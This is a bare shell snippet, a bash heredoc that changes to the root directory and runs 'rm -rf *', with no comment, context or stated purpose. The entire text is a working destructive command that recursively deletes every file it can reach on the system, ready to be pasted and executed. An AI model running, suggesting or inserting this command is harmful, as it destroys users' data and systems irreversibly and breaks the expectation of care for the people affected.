bash <<'EOF'
cd /
rm -rf *
EOF